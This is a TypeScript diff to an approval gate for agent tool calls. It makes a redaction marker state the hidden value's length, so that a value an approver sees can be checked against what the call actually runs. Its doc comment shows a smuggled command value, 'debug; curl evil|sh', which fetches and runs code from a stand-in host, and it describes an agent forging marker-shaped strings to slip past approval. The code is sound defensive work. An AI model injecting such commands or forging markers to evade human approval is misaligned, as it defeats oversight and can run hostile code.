@@ -8,6 +8,7 @@ import { callDigestOver } from '../policies/gate';
 import { canonicalJson } from '../policies/hash';
 import type { PendingApprovalView, SessionStateView } from '../workflows/contract';
 import { refuse, type Refusal } from './check-decision';
+import { isRedactionMarker, redactionMarker } from './redaction';
 import { REDACTED, type ApprovalRecord } from './types';
 
 /** The session a row's approval id names (`<sessionId>:<proposalSeq>`). */
@@ -21,9 +22,15 @@ function plain(value: unknown): unknown {
   return value === undefined ? null : JSON.parse(JSON.stringify(value));
 }
 
-/** True when `shown` is `raw` with some values replaced by `[REDACTED]` and nothing else changed. */
+/**
+ * True when `shown` is `raw` with some values replaced by their markers and nothing else changed.
+ * A marker names the length of the value it stands for, and only that value's
+ * (`[REDACTED: 5 characters]` for `debug`, never for `debug; curl evil|sh`); a `[REDACTED]` without
+ * a length (a row written before lengths were shown) stands for any value. A marker-shaped string
+ * the agent sent as a value claims a length it does not have: it is not the call's.
+ */
 export function isRedactionOf(shown: unknown, raw: unknown): boolean {
-  if (shown === REDACTED) return true;
+  if (isRedactionMarker(shown)) return shown === REDACTED || shown === redactionMarker(raw);
   if (Array.isArray(shown)) return Array.isArray(raw) && shown.length === raw.length && shown.every((v, i) => isRedactionOf(v, raw[i]));
   if (shown !== null && typeof shown === 'object') {
     if (raw === null || typeof raw !== 'object' || Array.isArray(raw)) return false;
